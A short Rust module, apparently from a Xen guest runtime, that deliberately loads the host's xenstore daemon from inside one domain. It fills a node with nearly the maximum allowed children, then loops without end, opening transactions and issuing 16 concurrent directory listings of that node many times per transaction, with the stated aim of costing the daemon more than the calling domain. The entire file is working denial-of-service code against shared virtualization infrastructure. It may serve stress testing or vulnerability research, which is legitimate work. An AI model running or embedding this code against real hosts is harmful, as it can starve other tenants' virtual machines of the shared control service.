//! Requests of xenstore that cost its daemon more than this domain.

use alloc::format;

use frontends::xenbus::{Nodes, StoreError, Transaction, Xenstore};
use pvrt::executor::join_all;

type Result<T> = core::result::Result<T, StoreError>;

/// Where all of this is: a domain's own ground.
const HOME: &str = "data";
/// Children of one node: nearly all that a domain may have.
const CHILDREN: u32 = 990;
/// Requests in flight.
const DEPTH: usize = 16;

/// Makes as many children of one node as fit.
async fn children(store: &Xenstore) -> Result<u32> {
    for n in 0..CHILDREN {
        match store.write(&format!("{HOME}/{n}"), "").await {
            Err(StoreError::Refused(_)) => return Ok(n),
            other => other?,
        }
    }
    Ok(CHILDREN)
}

/// Lists many children in a transaction that has changed one of them.
pub(super) async fn directories(store: Xenstore) -> Result<()> {
    children(&store).await?;
    loop {
        let transaction = store.begin().await?;
        transaction.write(&format!("{HOME}/0"), "x").await?;
        for _ in 0..64 {
            list(&transaction).await?;
        }
    }
}

/// Lists them many times at once.
async fn list(transaction: &Transaction) -> Result<()> {
    let lists = (0..DEPTH).map(|_| transaction.request(ring_abi::io::xs_wire::XS_DIRECTORY, &[b"data\0"]));
    join_all(lists).await.into_iter().try_for_each(|list| list.map(drop))
}
